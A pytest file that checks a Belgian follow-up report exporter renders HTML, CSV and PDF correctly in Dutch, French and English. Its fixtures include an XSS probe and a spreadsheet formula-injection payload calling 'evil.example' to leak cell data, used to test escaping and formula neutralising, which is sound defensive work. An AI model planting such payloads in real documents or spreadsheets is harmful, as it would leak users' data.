"""A compiled report as the mayors get it: an HTML page in their language, a CSV for their
spreadsheets and a PDF, each checked the way a reader would (the PDF with a parser other
than the one that wrote it)."""

import csv
import io
import re
from collections import Counter
from datetime import UTC, date, datetime
from typing import Any

import pytest
from pypdf import PdfReader

from workflow.follow_up.due import ItemFacts
from workflow.reports.content import (
    ForumFacts,
    ItemRecord,
    Outcome,
    SessionFacts,
    compile_report,
)
from workflow.reports.export import CSV_COLUMNS, table_csv, to_csv, to_html, to_pdf

COMPILED_AT = datetime(2027, 6, 1, 7, 30, tzinfo=UTC)  # 09:30 in Brussels
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Vacatures")'
VERSIONS = [
    {
        "id": 5,
        "version": 1,
        "compiled_at": datetime(2027, 5, 30, 7, 0, tzinfo=UTC),
        "url": "/api/v1/reports/5/html",
    }
]


def item(
    iid: int,
    forum: int,
    title: str,
    owner: str,
    *,
    created: date,
    due: date | None = None,
    status: str = "open",
    completed: date | None = None,
    baseline: float | None = None,
    target: float | None = None,
    current: float | None = None,
    **kw: Any,
) -> ItemRecord:
    return ItemRecord(
        facts=ItemFacts(
            id=iid,
            forum_id=forum,
            owner_person_id=iid,
            status=status,
            due_date=due,
            created_on=created,
            completed_on=completed,
            baseline=baseline,
            target=target,
            current_value=current,
        ),
        title=title,
        owner=owner,
        created_at=datetime.combine(created, datetime.min.time(), UTC),
        completed_at=datetime.combine(completed, datetime.min.time(), UTC) if completed else None,
        **kw,
    )


WORKING_GROUP = ForumFacts(
    id=3,
    name="Themawerkgroep Mobiliteit",
    sessions=(
        SessionFacts(
            30,
            "Werkgroep april",
            datetime(2027, 4, 20, 8, tzinfo=UTC),
            ("present", "absent", None),
            (Outcome("Fietsroutes", "Goedgekeurd", "decision"),),
        ),
    ),
    items=(
        item(
            31, 3, SCRIPT, "Jérôme Van den Broeck", created=date(2027, 4, 20), due=date(2027, 9, 30)
        ),
        # A falling indicator: its numbers are negative and must stay numbers in the CSV.
        item(
            32,
            3,
            "Spitsbus Leuven–Tienen",
            "Anaïs Dubois-Lefèvre",
            created=date(2027, 4, 20),
            due=date(2027, 12, 31),
            indicator="Reistijd in de spits",
            unit="minuten",
            baseline=0.0,
            target=-10.0,
            current=-4.0,
        ),
    ),
)
TASKFORCE = ForumFacts(
    id=2,
    name="Taskforce Spitsregio Leuven",
    sessions=(
        SessionFacts(
            20,
            "Taskforce maart",
            datetime(2027, 3, 15, 13, tzinfo=UTC),
            ("present", "present", "excused", "absent"),
            (
                Outcome("Jobkanalen", "Akkoord – budget € 12 000", "decision"),
                Outcome("Mobiliteitsplan", "Besproken; terug in juni", "discussion"),
            ),
        ),
    ),
    items=(
        item(
            21,
            2,
            FORMULA,
            "Anaïs Dubois-Lefèvre",
            created=date(2027, 3, 15),
            due=date(2027, 12, 31),
            indicator="Vacatures ingevuld",
            unit="personen",
            baseline=0.0,
            target=100.0,
            current=10.0,
        ),
        item(
            22,
            2,
            "Jobbeurs Tienen",
            "Ségolène Lemaître",
            created=date(2027, 1, 10),
            status="done",
            completed=date(2027, 4, 2),
        ),
        item(
            23,
            2,
            "Pendelfonds Oost-Brabant",
            "Mieke Vandenberghe",
            created=date(2027, 1, 10),
            due=date(2027, 5, 15),
            escalated_at=datetime(2027, 5, 20, tzinfo=UTC),
            escalation_note="Budget nodig: € 50 000 – graag een beslissing",
        ),
    ),
    children=(WORKING_GROUP,),
)
CONTENT = compile_report(
    TASKFORCE,
    parent={
        "forum_id": 1,
        "forum_name": "Burgemeestersoverleg Oost-Brabant",
        "session_id": 9,
        "session_title": "Burgemeestersoverleg juni",
        "session_starts_at": "2027-06-07T17:00:00+00:00",
    },
    period_start=datetime(2027, 3, 1, tzinfo=UTC),
    period_end=datetime(2027, 6, 1, tzinfo=UTC),
    today=date(2027, 6, 1),
)
TOTALS = {
    "Sessions held": 2,
    "Decisions": 2,
    "Other outcomes recorded": 1,
    "Action items opened": 3,
    "Action items done": 1,
    "Action items overdue": 1,
    "Indicators behind their target path": 1,
    "Items for a decision by the mayors": 1,
}


def test_the_fixture_is_what_the_assertions_assume() -> None:
    t = CONTENT["totals"]
    assert (t["sessions_held"], t["decisions"], t["action_items_opened"]) == (2, 2, 3)
    assert (t["action_items_overdue"], t["indicators_behind"], t["escalations"]) == (1, 1, 1)
    assert [c["forum"]["name"] for c in CONTENT["children"]] == ["Themawerkgroep Mobiliteit"]


# HTML ---------------------------------------------------------------------------------------


def html(language: str = "en") -> str:
    return to_html(
        CONTENT, language=language, version=2, compiled_at=COMPILED_AT, versions=VERSIONS
    )


def test_the_page_shows_the_report_with_its_working_group() -> None:
    page = html()
    assert "<h1>Follow-up report: Taskforce Spitsregio Leuven</h1>" in page
    assert "Burgemeestersoverleg Oost-Brabant – Burgemeestersoverleg juni, 7 June 2027" in page
    assert "1 March 2027 – 1 June 2027 · version 2 · 1 June 2027, 09:30" in page
    totals = dict(re.findall(r'<th scope="row">([^<]+)</th><td>(\d+)</td>', page))
    assert {k: int(v) for k, v in totals.items()} == TOTALS
    assert "2 present, 1 excused, 1 absent" in page
    assert "Akkoord – budget € 12 000" in page
    assert "Pendelfonds Oost-Brabant" in page and "(17 days overdue)" in page
    # The working group nested under the taskforce, with its own sections.
    taskforce, group = (
        page.index("<h2>Taskforce Spitsregio Leuven</h2>"),
        page.index("<h3>Themawerkgroep Mobiliteit</h3>"),
    )
    assert taskforce < group < page.index("Werkgroep april") < page.index("<h2>Other versions")
    assert '<a href="/api/v1/reports/5/html">version 1</a> – 30 May 2027, 09:00' in page


def test_the_page_escapes_user_text_and_runs_no_script() -> None:
    page = html()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page
    assert "=HYPERLINK(&#34;https://evil.example/?leak=&#34;&amp;A1" in page


def test_the_page_is_accessible_and_draws_each_indicator_without_javascript() -> None:
    page = html()
    assert all('scope="' in th for th in re.findall(r"<th\b[^>]*>", page))
    bars = re.findall(r"<svg\b.*?</svg>", page)
    assert len(bars) == 2  # one per indicator
    # 10% of the way to the target, behind its path; -4 of -10 minutes is 40%.
    assert '<rect width="12" height="12" fill="#991b1b"/>' in bars[0]
    assert '<rect width="48" height="12" fill="#1d4ed8"/>' in bars[1]
    assert all('aria-hidden="true"' in b for b in bars)  # the percentage beside it is text


@pytest.mark.parametrize(
    ("language", "title", "day"),
    [
        ("nl", "Opvolgingsrapport: Taskforce Spitsregio Leuven", "7 juni 2027"),
        ("fr", "Rapport de suivi\u00a0: Taskforce Spitsregio Leuven", "7 juin 2027"),
        ("en", "Follow-up report: Taskforce Spitsregio Leuven", "7 June 2027"),
    ],
)
def test_the_page_in_each_language(language: str, title: str, day: str) -> None:
    page = html(language)
    assert f'<html lang="{language}">' in page
    assert f"<title>{title}</title>" in page and f"<h1>{title}</h1>" in page
    assert day in page
    assert "Themawerkgroep Mobiliteit" in page and "Anaïs Dubois-Lefèvre" in page


# CSV ----------------------------------------------------------------------------------------


def test_the_csv_has_one_row_per_fact_and_neutralises_formulas() -> None:
    text = to_csv(CONTENT)
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")  # RFC 4180 line ends
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    rows = list(reader)
    assert Counter(r["section"] for r in rows) == {
        "session": 2,
        "decision": 2,
        "outcome": 1,
        "opened": 3,
        "done": 1,
        "overdue": 1,
        "indicator": 2,
        "escalation": 1,
    }
    # The working group's rows follow the taskforce's and carry its own forum.
    forums = [(r["forum_id"], r["forum"]) for r in rows]
    assert forums == sorted(forums)
    assert {r["forum"] for r in rows if r["id"] in ("30", "31", "32")} == {
        "Themawerkgroep Mobiliteit"
    }
    # A title a spreadsheet would run gets a leading apostrophe, wherever it appears.
    formula_rows = [r for r in rows if r["id"] == "21"]
    assert [r["section"] for r in formula_rows] == ["opened", "indicator"]
    assert all(r["title"] == "'" + FORMULA for r in formula_rows)
    # Only numbers may start with a sign; they stay numbers, as a spreadsheet reads them.
    signed = {v for r in rows for v in r.values() if v.startswith(("=", "+", "-", "@", "\t"))}
    assert signed == {"-10.0", "-4.0"}
    # Text with commas, quotes and markup comes back as it was.
    assert {r["title"] for r in rows if r["id"] == "31"} == {SCRIPT}
    [escalation] = [r for r in rows if r["section"] == "escalation"]
    assert escalation["note"] == "Budget nodig: € 50 000 – graag een beslissing"
    assert escalation["days_overdue"] == "17"
    [bus] = [r for r in rows if r["section"] == "indicator" and r["id"] == "32"]
    assert (bus["target"], bus["current_value"], bus["progress"]) == ("-10.0", "-4.0", "0.4")
    assert (bus["unit"], bus["behind_target_path"]) == ("minuten", "False")


# PDF ----------------------------------------------------------------------------------------


def pdf_text(data: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(data))
    # Words wrap at the margin: compare on single spaces.
    return reader, " ".join(" ".join(p.extract_text() for p in reader.pages).split())


def test_the_pdf_reads_back_with_accents_forums_and_totals() -> None:
    data = to_pdf(CONTENT, language="en", version=2, compiled_at=COMPILED_AT)
    assert data.startswith(b"%PDF-")
    reader, text = pdf_text(data)
    assert reader.metadata is not None
    assert reader.metadata.title == "Follow-up report: Taskforce Spitsregio Leuven"
    for name in (
        "Anaïs Dubois-Lefèvre",
        "Ségolène Lemaître",
        "Jérôme Van den Broeck",
        "Taskforce Spitsregio Leuven",
        "Themawerkgroep Mobiliteit",
        "Burgemeestersoverleg Oost-Brabant – Burgemeestersoverleg juni, 7 June 2027",
        "Budget nodig: € 50 000 – graag een beslissing",
        SCRIPT,
    ):
        assert name in text, name
    # The totals as a table: each label in one cell, its number in the next.
    for label, count in TOTALS.items():
        assert f"{label} {count}" in text, label
    assert "Period: 1 March 2027 – 1 June 2027 · version 2 · 1 June 2027, 09:30" in text
    assert "(17 days overdue)" in text and "behind its target path" in text
    # The working group after the taskforce's own sections.
    assert text.index("Pendelfonds Oost-Brabant") < text.index("Themawerkgroep Mobiliteit")


def test_the_pdf_is_a_document_to_print_with_tables_charts_and_page_numbers() -> None:
    reader, text = pdf_text(to_pdf(CONTENT, language="en", version=2, compiled_at=COMPILED_AT))
    pages = [" ".join(p.extract_text().split()) for p in reader.pages]
    n = len(pages)
    assert n >= 2
    for number, page in enumerate(pages, start=1):
        # Every page: the forum (with the version) and its number; from the second on, the
        # report's name and period at the top.
        assert f"Taskforce Spitsregio Leuven – version 2 Page {number} of {n}" in page
        if number > 1:
            assert page.startswith(
                "Follow-up report: Taskforce Spitsregio Leuven · Period: 1 March 2027 – 1 June 2027"
            )
    # Tables with their column headings: action items with owner, due date and status, the
    # indicators with baseline, current value and target.
    assert "Action item Owner Due Status" in text
    assert "Pendelfonds Oost-Brabant Mieke Vandenberghe 15 May 2027 (17 days overdue) open" in text
    assert "Action item Baseline Current value Target Progress" in text
    assert "Vacatures ingevuld (personen) 0 10 100 10% – behind its target path" in text
    # Every outcome: the decisions, then the others with their kind.
    assert "Decisions (1) Agenda item Session Decision Jobkanalen Taskforce maart" in text
    assert "Other outcomes recorded (1)" in text
    assert "Mobiliteitsplan for discussion Taskforce maart Besproken; terug in juni" in text
    assert "Question for the mayors" in text
    # The charts: action items by status and each indicator's progress, drawn as bars.
    assert "The black line is the target." in text
    drawn = b"".join(p.get_contents().get_data() for p in reader.pages)  # type: ignore[union-attr]
    # Filled bars in the chart colours: blue (opened, on track), green (done), red (overdue,
    # behind), each after its colour is set; and the black target line on each indicator bar.
    fills = re.findall(rb"([\d.]+ [\d.]+ [\d.]+) rg\s+(?:[\d.-]+ ){4}re f", drawn)
    assert {b"0.1137 0.3059 0.8471", b"0.0863 0.3961 0.2039", b"0.6 0.1059 0.1059"} <= set(fills)
    # The 10% indicator's bar is a tenth of the way to the target line (at 1/1.2 of the bar).
    bar = 62 * 72 / 25.4  # mm in points
    assert f"{bar * 0.1 / 1.2:.2f} -10.20 re f".encode() in drawn


def test_the_pdf_in_french_and_the_same_each_time() -> None:
    data = to_pdf(CONTENT, language="fr", version=2, compiled_at=COMPILED_AT)
    reader, text = pdf_text(data)
    assert reader.metadata is not None
    assert reader.metadata.title == "Rapport de suivi\u00a0: Taskforce Spitsregio Leuven"
    # the no-break space before the colon (the text extraction reads it as a space)
    assert re.search("Période[\u00a0 ]: 1 mars 2027 – 1 juin 2027", text)
    assert "Séances tenues 2" in text and "7 juin 2027" in text
    assert f"Page 1 sur {len(reader.pages)}" in text
    assert "Action Responsable Échéance Statut" in text
    assert "10\u00a0%" in text or "10 %" in text  # French writes a space before %
    again = to_pdf(CONTENT, language="fr", version=2, compiled_at=COMPILED_AT)
    assert pdf_text(again)[1] == text and len(again) == len(data)


# An empty period --------------------------------------------------------------------------


def test_an_empty_report_renders_in_all_three_forms() -> None:
    empty = compile_report(
        ForumFacts(5, "Nieuwe werkgroep"),
        parent={"forum_id": 1},
        period_start=datetime(2027, 3, 1, tzinfo=UTC),
        period_end=datetime(2027, 3, 2, tzinfo=UTC),
        today=date(2027, 3, 2),
    )
    page = to_html(empty, language="nl", version=1, compiled_at=COMPILED_AT)
    assert "Opvolgingsrapport: Nieuwe werkgroep" in page
    assert to_csv(empty) == ",".join(CSV_COLUMNS) + "\r\n"
    _, text = pdf_text(to_pdf(empty, language="nl", version=1, compiled_at=COMPILED_AT))
    assert "Nieuwe werkgroep" in text


def test_a_long_outcome_runs_on_over_pages_rather_than_failing() -> None:
    """An outcome may hold 20,000 characters, or hundreds of short lines: a table row cannot
    be taller than a page, so the text continues in the rows below, every word printed."""
    words = " ".join(f"woord{n}" for n in range(1200))  # about 10,000 characters
    lines = "\n".join(f"regel{n}" for n in range(200))
    report = compile_report(
        ForumFacts(
            5,
            "Werkgroep",
            sessions=(
                SessionFacts(
                    1,
                    "Werkgroep maart",
                    datetime(2027, 3, 5, tzinfo=UTC),
                    (),
                    (
                        Outcome("Verslag", words, "decision"),
                        Outcome("Lijst", lines),
                        Outcome("X", "x" * 5000),
                    ),
                ),
            ),
        ),
        parent={"forum_id": 1},
        period_start=datetime(2027, 3, 1, tzinfo=UTC),
        period_end=datetime(2027, 3, 9, tzinfo=UTC),
        today=date(2027, 3, 9),
    )
    reader, text = pdf_text(to_pdf(report, language="nl", version=1, compiled_at=COMPILED_AT))
    assert len(reader.pages) > 2
    found = set(re.findall(r"woord\d+|regel\d+", text))
    assert found == {f"woord{n}" for n in range(1200)} | {f"regel{n}" for n in range(200)}


def test_the_mayors_decisions_are_in_the_pdf_and_the_csv() -> None:
    """What the mayors decided on an item put before them reaches the printed report and the
    spreadsheet, with the question it answers."""
    decided = {
        **CONTENT,
        "parent_decisions": [
            {
                "id": 77,
                "title": "Pendelfonds",
                "owner": "Mieke Vandenberghe",
                "status": "open",
                "due_date": "2027-05-15",
                "note": "Budget van € 50 000 nodig?",
                "decision": "Goedgekeurd voor 2027",
                "decided_at": "2027-05-20T09:00:00+00:00",
            }
        ],
    }
    _, text = pdf_text(to_pdf(decided, language="en", version=1, compiled_at=COMPILED_AT))
    assert "Decisions of the mayors (1) Action item Question for the mayors Decision" in text
    assert "Pendelfonds Budget van € 50 000 nodig? Goedgekeurd voor 2027 20 May 2027" in text
    _, french = pdf_text(to_pdf(decided, language="fr", version=1, compiled_at=COMPILED_AT))
    assert "Décisions des bourgmestres (1)" in french
    rows = list(csv.DictReader(io.StringIO(to_csv(decided), newline="")))
    [row] = [r for r in rows if r["section"] == "parent_decision"]
    assert (row["title"], row["note"], row["decision"]) == (
        "Pendelfonds",
        "Budget van € 50 000 nodig?",
        "Goedgekeurd voor 2027",
    )
    assert row["decided_at"] == "2027-05-20T09:00:00+00:00"


def test_a_list_for_a_belgian_excel() -> None:
    """UTF-8 with a byte-order mark, semicolons, figures as they are, formulas defused."""
    body = table_csv(
        ["Naam", "Waarde"], [["Geneviève; Dubois", "-5,5"], ['=HYPERLINK("x")', "25\u00a0%"]]
    )
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig").split("\r\n") == [
        "Naam;Waarde",
        '"Geneviève; Dubois";-5,5',
        '"\'=HYPERLINK(""x"")";25\u00a0%',
        "",
    ]
